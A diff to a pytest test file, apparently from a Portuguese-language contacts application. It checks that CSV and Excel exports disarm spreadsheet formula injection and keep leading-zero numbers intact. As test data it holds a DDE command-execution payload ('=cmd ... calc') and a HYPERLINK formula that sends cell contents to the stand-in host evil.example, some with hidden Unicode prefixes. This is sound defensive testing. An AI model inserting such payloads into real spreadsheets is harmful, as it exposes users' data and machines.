@@ -89,7 +89,7 @@ def test_a_repeated_file_is_told_before_and_refused_after(ana):
     imported(ana, ("Lia", "41998881111", ""))
     office = Office(ana)
     job = uploaded(office, csv_of([("Nome", "Celular", "E-mail"), ("Lia", "41998881111", "")]))
-    assert "já foi importado" in text_of(office.page("contacts_importjob", job))
+    assert "já foi importado: <time " in text_of(office.page("contacts_importjob", job))
     given = chosen(coluna_2="email", legal_basis="", proof="")
     answer = office.save("contacts_importjob", job, **given)
     assert answer.status_code == 200 and "mesmas escolhas" in text_of(answer)
@@ -145,7 +145,7 @@ def exported(office: Office, kind: str = "csv", **query: str) -> list[list[str]]
 
 @pytest.fixture
 def people(ana):
-    formula = {"CPF": "-1", "Convênio": "@SUM(1)"}
+    formula = {"CPF": "-1", "Convênio": "@SUM(1)", "Prontuário": "000123"}
     with company_scope(ana.company_id):
         contact_save(
             actor=ana,
@@ -169,11 +169,15 @@ def test_what_is_on_screen_is_exported_and_runs_nothing(ana, people, kind):
         "Etiquetas",
         "Aceita marketing",
     ]
-    assert lia[:3] == ["Lia", "'+1 202-555-0143", "lia@exemplo.example"]
-    assert formula[:2] == ["'=cmd|' /C calc'!A0", "(41) 99888-1111"]
+    # A CSV has no other way to say that something is a text; a workbook's cells are texts by type.
+    shown = {"csv": ('="{}"', "'{}"), "excel": ("{}", "{}")}[kind]
+    digits, disarmed = (mark.format for mark in shown)
+    assert lia[:3] == ["Lia", digits("+1 202-555-0143"), "lia@exemplo.example"]
+    assert formula[:2] == [disarmed("=cmd|' /C calc'!A0"), "(41) 99888-1111"]
     assert formula[4:6] == ["Botox; VIP", "sim"]
-    assert formula[heading.index("CPF")] == "'-1"
-    assert formula[heading.index("Convênio")] == "'@SUM(1)"
+    assert formula[heading.index("CPF")] == disarmed("-1")
+    assert formula[heading.index("Convênio")] == disarmed("@SUM(1)")
+    assert formula[heading.index("Prontuário")] == digits("000123")
 
 
 def test_the_filters_of_the_page_hold_and_the_audit_names_them(ana, people):
@@ -203,6 +207,36 @@ def test_a_workbook_for_too_many_is_refused(ana, people, monkeypatch):
     assert answer.status_code == 302 and "Exporte em CSV" in said(answer)
 
 
-@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@a", "\t=1", "\r=1", "\0=1", "\n=1"])
-def test_a_dangerous_beginning_is_disarmed(text):
-    assert exporting.harmless(text) == f"'{text}"
+HIDDEN = ("\u200b", "\u2060", "\ufeff", "\u00ad", "\u202e", " ", "\u3000", "\x0b", "\ufe0f", "\x00")
+
+
+@pytest.mark.parametrize("text", ["=1", "+A1", "-A1", "@a", "\t=1", "\r=1", "\0=1", "\n=1", "＝1"])
+@pytest.mark.parametrize("before", ["", *HIDDEN])
+def test_a_dangerous_beginning_is_disarmed(before, text):
+    assert exporting.harmless(before + text) == f"'{before}{text}"
+
+
+@pytest.mark.parametrize("before", ["", *HIDDEN])
+def test_no_cell_of_a_workbook_is_a_formula(before):
+    text = before + '=HYPERLINK("http://evil.example/?d="&B2&C2,"Abrir ficha")'
+    lines = iter([["Nome", "Resposta"], [text, "#N/A"], ["👨‍👩‍👧 Luz", "-"]])
+    content = b"".join(exporting.workbook_pieces(lines, "Pessoas"))
+    (_names, (danger, error), (family, _dash)) = openpyxl.load_workbook(io.BytesIO(content)).active
+    assert danger.data_type in ("s", "inlineStr") and danger.value.endswith('"Abrir ficha")')
+    assert danger.quotePrefix and danger.value.lstrip("\x0b\x00") in text
+    assert (error.data_type, error.value, family.value) != ("e", "#N/A", "") and family.value[
+        0
+    ] == "👨"
+
+
+@pytest.mark.parametrize(
+    ("text", "written"),
+    [
+        ("01234567890", '="01234567890"'), ("000123", '="000123"'), ("12E3", '="12E3"'),
+        ("1234567890123456", '="1234567890123456"'), ("+351 912 345 678", '="+351 912 345 678"'),
+        ("12345678901", "12345678901"), ("0", "0"), ("12/03/1985", "12/03/1985"),
+        ("(41) 99711-0001", "(41) 99711-0001"), ("Ana", "Ana"), ("3/4", '="3/4"'),
+    ],
+)  # fmt: skip
+def test_digits_survive_a_double_click(text, written):
+    assert exporting.harmless(text) == written
